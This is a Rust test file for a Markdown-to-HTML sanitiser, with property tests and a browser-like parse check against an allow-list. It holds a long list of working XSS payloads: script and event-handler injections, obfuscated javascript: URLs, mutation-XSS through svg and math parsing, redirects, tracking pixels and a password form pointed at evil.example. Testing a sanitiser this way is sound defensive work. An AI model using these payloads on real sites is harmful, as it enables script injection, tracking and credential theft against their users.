//! Attacks. Each payload is put wherever a writer, or a file from a stranger, could put it. The output is parsed as a
//! browser would parse it and must not contain any element, attribute or address outside the allow-list.

use html5ever::tendril::TendrilSink;
use html5ever::tree_builder::TreeBuilderOpts;
use html5ever::{ParseOpts, parse_document};
use markup5ever_rcdom::{Node, NodeData, RcDom};
use proptest::prelude::*;

use super::html;
use crate::address::{Reach, reach};
use crate::document::allowed::{ATTRIBUTES, CLASSES, ELEMENT_ATTRIBUTES, ELEMENTS, ROLES};

const PAYLOADS: &[&str] = &[
    // Scripts.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<script/xss src=//evil.example></script>",
    "</p><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    // Handlers.
    "<img src=media/boat.jpg onerror=alert(1)>",
    "<img/src='media/boat.jpg'/onerror=alert(1)>",
    "<img src=x:x onerror=\"alert(1)\" alt='\"><b onclick=x>'>",
    "<b onmouseover=alert(1)>x</b>",
    "<p onclick\n=\nalert(1)>x</p>",
    "<details open ontoggle=alert(1)><summary onfocus=alert(1) autofocus tabindex=1>x</summary></details>",
    "<a href=x onfocus=alert(1) autofocus>x</a>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img \u{0} src=x on\u{0}error=alert(1)>",
    "<div onpointerenter=alert(1) style=\"position:fixed;inset:0\">x</div>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<b \"onclick=alert(1)>x</b>",
    "<b '<i onclick=alert(1)>x</b>",
    // Addresses.
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;vascript&colon;alert(1)\">x</a>",
    "<a href=\"&#106avascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=\"blob:https://x.example/1\">x</a>",
    "<a ping=//evil.example href=x target=_top download>x</a>",
    "<q cite=\"javascript:alert(1)\">x</q>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](data:text/html,x)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x\" onerror=\"alert(1)](media/boat.jpg \"\\\" onload=\\\"alert(1)\")",
    "[x](https://x.example/\"onmouseover=\"alert(1))",
    "[x](article:\"><script>alert(1)</script>)",
    // Pictures on other hosts, which would reveal who reads what.
    "<img src=https://evil.example/pixel.gif>",
    "<img src=media/boat.jpg srcset='https://evil.example/x 2x'>",
    "<picture><source srcset=https://evil.example/x><img src=\\\\evil.example\\x></picture>",
    "<div background=//evil.example/x style='background:url(//evil.example)'>x</div>",
    "<video poster=//evil.example/x src=//evil.example/y autoplay></video>",
    "<audio src=//evil.example/y autoplay></audio>",
    "<input type=image src=//evil.example/x>",
    "<link rel=prefetch href=//evil.example/x>",
    // Foreign content and parsers that disagree.
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<template><script>alert(1)</script></template>",
    "<textarea></p></textarea><img src=x onerror=alert(1)></textarea>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><b>x",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<select><option><style></select><img src=x onerror=alert(1)></style>",
    "<table><td><a href=\"<b>\"><table><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1?><img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]><img src=x onerror=alert(1)>",
    // Elements that would change the page around the text.
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css'",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=data:text/html,x></object><embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=password type=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=text autofocus onfocus=alert(1)>",
    "<dialog open>x</dialog><frameset><frame src=//evil.example></frameset>",
    "</div></article></main><main class=sheet><p>a page of mine</p>",
    "</textarea></title></style></script><b onclick=x>",
    // Ids and classes that the page itself uses.
    "<a id=page--text name=page--related>x</a><div id=page--text data-actions data-article=x data-action=like>x</div>",
    "<p id=note--1 class=\"sheet actions skip unseen\">x</p>",
    "<img name=querySelector src=media/boat.jpg><form name=body></form>",
    "# x {#page--text .sheet onclick=alert(1)}",
    "```\"><script>alert(1)</script>\nx\n```",
    "```js\" onclick=\"alert(1)\nx\n```",
    "<div slot=x is=x-y part=z contenteditable translate=no accesskey=x dir=\"rtl\" inert popover>x</div>",
    "| <script> | b |\n|--|--|\n| </script><img src=x onerror=alert(1)> | x |",
    "x[^1]\n\n[^1]: <script>alert(1)</script><img src=x onerror=alert(1)>",
];

#[test]
fn nothing_but_the_allow_list_comes_out_of_an_attack() {
    for payload in PAYLOADS {
        for body in placed(payload) {
            check(&html(&body)).unwrap_or_else(|problem| panic!("{problem}\n of {body:?}\n in {}", html(&body)));
        }
    }
}

#[test]
fn the_check_sees_what_an_attack_would_do() {
    // A control: a check that found nothing in the payloads themselves would prove nothing.
    let dangerous = PAYLOADS.iter().filter(|payload| payload.starts_with('<') && check(payload).is_err()).count();
    assert!(dangerous > 75, "only {dangerous} of the payloads are recognised as dangerous");
}

proptest! {
    #[test]
    fn nothing_but_the_allow_list_comes_out_of_a_mixture(parts in proptest::collection::vec(0..PAYLOADS.len() + 12, 1..8), cut in 0usize..40) {
        const GLUE: [&str; 12] = ["\n\n", "\n", "> ", "- ", "</p>", "\"", "'", "<b>", "*", "`", "<!--", "&lt;"];
        let pick = |at: &usize| GLUE.get(*at).copied().unwrap_or_else(|| PAYLOADS[at - 12]);
        let body: String = parts.iter().map(pick).collect();
        let start = (0..=cut.min(body.len())).rev().find(|at| body.is_char_boundary(*at)).unwrap_or(0);
        let safe = html(&body[start..]);
        prop_assert_eq!(check(&safe), Ok(()), "{}", safe);
    }
}

/// A payload by itself, in a line, in a list, in a quote, in a table, in a heading, next to raw HTML, and in a group.
fn placed(payload: &str) -> [String; 8] {
    [
        payload.to_owned(),
        format!("a {payload} b *c*"),
        format!("- a\n- {payload}\n- b"),
        format!("> {}", payload.replace('\n', "\n> ")),
        format!("| a | b |\n|--|--|\n| {} | d |", payload.replace('\n', " ")),
        format!("## a {}", payload.replace('\n', " ")),
        format!("<table><tr><td>{payload}</td></tr></table>"),
        format!("<details><summary>s</summary>\n\n{payload}\n\n</details>\n\n{payload}"),
    ]
}

/// Parses HTML as a browser does, scripts running or not, and looks for what must not be there.
fn check(html: &str) -> Result<(), String> {
    for scripting in [true, false] {
        let tree_builder = TreeBuilderOpts { scripting_enabled: scripting, ..TreeBuilderOpts::default() };
        let page = parse_document(RcDom::default(), ParseOpts { tree_builder, ..ParseOpts::default() })
            .one(format!("<!doctype html><html><head></head><body><div>{html}</div></body></html>"))
            .document;
        // Dropping a node empties everything below it, so keep the page alive while walking it.
        let mut waiting = vec![(page.clone(), 0)];
        while let Some((node, depth)) = waiting.pop() {
            // The html, head, body and div elements around the output are ours.
            check_node(&node, depth < 4)?;
            waiting.extend(node.children.borrow().iter().map(|child| (child.clone(), depth + 1)));
        }
    }
    Ok(())
}

fn check_node(node: &Node, frame: bool) -> Result<(), String> {
    let NodeData::Element { name, attrs, .. } = &node.data else {
        return if matches!(node.data, NodeData::Comment { .. }) { Err("a comment".into()) } else { Ok(()) };
    };
    let tag = &*name.local;
    if frame && matches!(tag, "html" | "head" | "body" | "div") && attrs.borrow().is_empty() {
        return Ok(());
    }
    if !ELEMENTS.contains(&tag) || &*name.ns != "http://www.w3.org/1999/xhtml" {
        return Err(format!("an element <{tag}>"));
    }
    for attribute in attrs.borrow().iter() {
        let (name, value) = (&*attribute.name.local, &*attribute.value);
        let own = ELEMENT_ATTRIBUTES.iter().any(|(element, names)| *element == tag && names.contains(&name));
        let fine = match name {
            "href" => reach(value) != Reach::Refused,
            "src" => value.starts_with("media/"),
            "srcset" => value.split(", ").all(|file| file.starts_with("media/")),
            "id" => !value.contains("--") || value.starts_with("note--") || value.starts_with("ref--"),
            "class" => value
                .split(' ')
                .all(|class| CLASSES.contains(&class) || class.starts_with("hl-") || class.starts_with("language-")),
            "role" => ROLES.contains(&value),
            "type" => tag != "input" || value == "checkbox",
            _ => true,
        };
        if !fine || !(ATTRIBUTES.contains(&name) || own) {
            return Err(format!("an attribute {name}={value:?} on <{tag}>"));
        }
    }
    Ok(())
}
